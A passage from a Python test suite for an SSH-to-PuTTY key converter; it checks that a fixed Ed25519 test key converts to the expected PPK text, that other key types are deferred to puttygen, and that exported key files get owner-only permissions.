AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f
Private-MAC: b30201a38d591ca0f824efd907e1a3c455b214a428dcab0e6c8e5f010dfa20c1
"""


def test_putty_s_own_converter_writes_the_same(tmp_path: Path) -> None:
    """``puttygen`` 0.78 made this of the same key; the comment is ours."""
    key = Ed25519PrivateKey.from_private_bytes(bytes(range(32)))
    (tmp_path / "key").write_bytes(key.private_bytes(Encoding.PEM, PrivateFormat.OpenSSH, NoEncryption()))
    assert putty.private_key(tmp_path / "key") == PPK


def test_other_keys_are_left_to_puttygen(tmp_path: Path) -> None:
    subprocess.run(["ssh-keygen", "-q", "-t", "ecdsa", "-N", "", "-f", tmp_path / "key"], check=True)
    with pytest.raises(Invalid) as raised:
        putty.private_key(tmp_path / "key")
    assert raised.value.hint.startswith("puttygen ")


def test_export_writes_a_file_that_only_the_person_reads(laptop: Laptop) -> None:
    laptop.run("login")
    done = laptop.run("export", "--format", "pageant", "web1")
    path = Path(done.stdout.strip())
    assert path.read_text().startswith("PuTTY-User-Key-File-3: ssh-ed25519-cert-v01@openssh.com\n")
    assert path.stat().st_mode & 0o777 == 0o600
